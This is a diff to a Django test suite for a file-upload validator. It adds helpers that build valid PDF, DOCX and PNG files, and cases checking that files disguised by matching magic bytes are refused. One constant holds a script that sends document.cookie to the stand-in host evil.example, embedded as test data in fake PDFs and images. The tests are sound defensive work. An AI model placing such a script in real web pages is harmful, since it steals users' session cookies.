@@ -9,6 +9,7 @@ from decimal import Decimal
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from PIL import Image, PngImagePlugin
 
 from actions.models import Indicator
 from metrics.models import Evidence, Figure, ProgressNote
@@ -190,16 +191,37 @@ class ConflictTests:
 
 
 def pdf_bytes():
-    return b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
+    """A minimal but well-formed PDF: objects, a cross-reference table at the offset startxref names, %%EOF."""
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
+    out, offsets = b"%PDF-1.4\n", []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
 
 
-def docx_bytes(with_content_types=True):
+def docx_bytes(with_content_types=True, parts=("_rels/.rels", "word/document.xml")):
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as archive:
         if with_content_types:
             archive.writestr("[Content_Types].xml", "<Types/>")
-        archive.writestr("word/document.xml", "<w:document/>")
+        for part in parts:
+            archive.writestr(part, "<xml/>")
     return out.getvalue()
+
+
+def png_bytes(text=None):
+    info = PngImagePlugin.PngInfo()
+    if text:
+        info.add_text("Comment", text)
+    out = io.BytesIO()
+    Image.new("RGB", (4, 4), "red").save(out, "PNG", pnginfo=info)
+    return out.getvalue()
+
+
+HTML = b"<html><body><script>fetch('http://evil.example/?c='+document.cookie)</script></body></html>"
 
 
 @pytest.mark.django_db
@@ -216,6 +238,15 @@ class EvidenceTests:
         ("table.docx", docx_bytes(with_content_types=False), "“table.docx”的内容与扩展名（.docx）不符：文件未被接受。"),
         ("run.exe", b"MZ\x90\x00", "“run.exe”的文件类型不被接受。请上传 PDF、PNG、JPEG 或 Office 文件（Word、Excel、PowerPoint）。"),
         ("empty.pdf", b"", "“empty.pdf”是空文件。"),
+        # Right first bytes, wrong structure:
+        ("page.pdf", b"%PDF-1.4\n" + HTML, "“page.pdf”的内容与扩展名（.pdf）不符：文件未被接受。"),
+        ("page.pdf", b"%PDF-1.4\n" + HTML + b"\nstartxref\n9\n%%EOF\n", "“page.pdf”的内容与扩展名（.pdf）不符：文件未被接受。"),
+        ("photo.png", png_bytes() + HTML, "“photo.png”的内容与扩展名（.png）不符：文件未被接受。"),
+        ("photo.png", png_bytes(text=HTML.decode()), "“photo.png”的内容与扩展名（.png）不符：文件未被接受。"),
+        ("photo.png", png_bytes()[:40], "“photo.png”的内容与扩展名（.png）不符：文件未被接受。"),
+        ("photo.jpg", b"\xff\xd8\xff\xe0" + HTML, "“photo.jpg”的内容与扩展名（.jpg）不符：文件未被接受。"),
+        ("plan.docx", docx_bytes(parts=()), "“plan.docx”的内容与扩展名（.docx）不符：文件未被接受。"),
+        ("plan.xlsx", docx_bytes(), "“plan.xlsx”的内容与扩展名（.xlsx）不符：文件未被接受。"),
     ])
     def test_it_refuses_disguised_or_unaccepted_files_and_saves_nothing(self, client, cast, name, content, message):
         response = self.post_file(client, cast, SimpleUploadedFile(name, content))
@@ -239,8 +270,15 @@ class EvidenceTests:
         client.force_login(cast.leader)
         download = client.get(reverse("metrics:evidence_download", args=[evidence.pk]))
         assert download.status_code == 200 and b"".join(download.streaming_content) == pdf_bytes()
-        assert "attachment" in download["Content-Disposition"]
+        assert "attachment" in download["Content-Disposition"] and download["X-Content-Type-Options"] == "nosniff"
         assert Evidence.objects.get(original_name="plan.docx").content_type.endswith("wordprocessingml.document")
+
+    def test_it_accepts_real_images(self, client, cast):
+        jpeg = io.BytesIO()
+        Image.new("RGB", (8, 8), "blue").save(jpeg, "JPEG")
+        upload = [SimpleUploadedFile("photo.png", png_bytes()), SimpleUploadedFile("photo.jpg", jpeg.getvalue())]
+        assert self.post_file(client, cast, upload).status_code == 302
+        assert sorted(Evidence.objects.values_list("content_type", flat=True)) == ["image/jpeg", "image/png"]
 
 
 @pytest.mark.django_db
